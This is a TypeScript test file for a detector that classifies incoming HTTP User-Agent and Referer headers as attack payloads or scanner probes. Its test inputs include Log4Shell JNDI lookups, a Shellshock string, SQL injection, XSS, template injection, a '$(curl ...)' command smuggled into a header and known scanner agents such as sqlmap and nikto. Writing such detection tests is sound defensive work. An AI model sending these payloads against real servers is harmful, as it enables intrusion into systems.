import { describe, expect, it } from 'vitest';
import { requestFacts } from '../../test/support/request-facts.js';
import type { RequestFacts } from './request-facts.js';
import { bitsOf, namesOf } from './signal.js';
import { createSignalReader } from './signal-reader.js';
import { AgentReader } from './agent-reader.js';
import type { ProbeIndex } from './probe-index.js';

const read = createSignalReader();

function signalsOf(changes: Partial<RequestFacts>): string[] {
  return namesOf(read(requestFacts({ outcome: 'served', status: 200, ...changes })));
}

describe('headers', () => {
  it.each([
    ['${jndi:ldap://203.0.113.7/a}', 'payload:jndi'],
    ['Mozilla/5.0 ${${lower:j}ndi:dns://x}', 'payload:jndi'],
    ['() { :; }; /bin/bash -c id', 'payload:shell'],
    ["Mozilla/5.0' or '1'='1", 'payload:sql'],
    ["0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z", 'payload:sql'],
    ['<script>alert(1)</script>', 'payload:xss'],
    ['{{7*7}}', 'payload:template'],
    ['$(curl http://203.0.113.7)', 'payload:shell'],
    ['sqlmap/1.8#stable (https://sqlmap.org)', 'probe:tools'],
    [
      'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
      'probe:tools',
    ],
    ['Fuzz Faster U Fool v2.1.0', 'probe:tools'],
  ])('of the agent %s', (userAgent, name) => {
    expect(signalsOf({ userAgent })).toEqual([name]);
    // The second time it is remembered.
    expect(signalsOf({ userAgent })).toEqual([name]);
  });

  it.each([
    'Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36',
    "Mozilla/5.0 (compatible; Let's Encrypt validation server; +https://www.letsencrypt.org)",
    'Mozilla/5.0 [FBAN/FBIOS;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/17.5;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]',
    'Mozilla/5.0 (compatible; archiver; curl 7.81; cat /tmp)',
    'Opera/9.80 (Windows NT 6.1; U; en) Presto/2.8.131 Version/11.11',
    '{{user_agent}}',
    '${USER_AGENT}',
    '%{HTTP_USER_AGENT}',
    'curl/8.5.0',
    'Go-http-client/1.1',
    'masonry-scanner-of-barcodes/2',
    '-',
    '',
  ])('of the agent %s, nothing', (userAgent) => {
    expect(signalsOf({ userAgent })).toEqual([]);
  });

  it.each([
    ['${jndi:ldap://203.0.113.7/a}', ['payload:jndi']],
    ['https://x.example/${jndi:ldap://203.0.113.7/a}', ['payload:jndi']],
    ['https://x.example/%24%7Bjndi:ldap://203.0.113.7/a%7D', ['payload:jndi']],
    ["' or 1=1--", ['payload:sql']],
    ['() { :; }; /bin/id', ['payload:shell']],
    [`${'x'.repeat(1_010)}' or 1=1`, ['payload:sql']],
    [`${'x'.repeat(1_024)}' or 1=1`, []],
    // What people have searched for elsewhere, and what stands in the address of the page they were on.
    ["https://www.search.example/?q=' or 1=1--", []],
    ["https://shop.example/search?q=' or 1=1--", ['own-referer']],
    ['www.search.example', []],
  ])('of the referer %s', (referer, names) => {
    expect(signalsOf({ referer })).toEqual(names);
  });

  it('remembers agents without mixing them up', () => {
    const reader = createSignalReader();
    const bitsFor = (userAgent: string) =>
      reader(requestFacts({ userAgent, status: 200, outcome: 'served' }));
    const agents = Array.from({ length: 3_000 }, (_, i) =>
      i % 3 === 0 ? `sqlmap/${i}` : `reader/${i}`,
    );
    for (const round of [1, 2]) {
      const wrong = agents.filter(
        (agent) => bitsFor(agent) !== (agent.startsWith('sqlmap') ? bitsOf(['probe:tools']) : 0),
      );
      expect(wrong, `round ${round}`).toEqual([]);
    }
  });
});

describe('what is remembered', () => {
  /** How often an agent is looked for that is read twice. */
  function lookUps(agent: string): number {
    let count = 0;
    const findAgents = () => {
      count++;
      return [];
    };
    const reader = new AgentReader({ findAgents } as unknown as ProbeIndex);
    reader.read(agent);
    reader.read(agent);
    return count;
  }

  it.each([
    [0, 0],
    [1, 1],
    [384, 1],
    [385, 2],
  ])('of an agent of %i characters', (length, count) => {
    expect(lookUps('x'.repeat(length))).toBe(count);
  });

  it('is of an agent what it was, whatever characters it has', () => {
    const agents = ['nikto', 'nikto ', ' nikto'].flatMap((name) =>
      ['\xff', '\uffff', '\x01'].flatMap((odd) =>
        [0, 1, 2, 5, 9].flatMap((count) => [
          name + odd.repeat(count),
          odd.repeat(count) + name,
          odd.repeat(count) + name + odd.repeat(count),
        ]),
      ),
    );
    const found = (userAgent: string) => signalsOf({ userAgent }).includes('probe:tools');
    for (const round of [1, 2]) {
      const lost = agents.filter((agent) => !found(agent));
      expect(lost, `round ${round}`).toEqual([]);
    }
  });

  it('is no more than what is looked at', () => {
    const agent = (length: number) => signalsOf({ userAgent: `${'x'.repeat(length)} nikto` });
    expect(agent(1_018)).toEqual(['probe:tools']);
    expect(agent(1_019)).toEqual([]);
  });
});
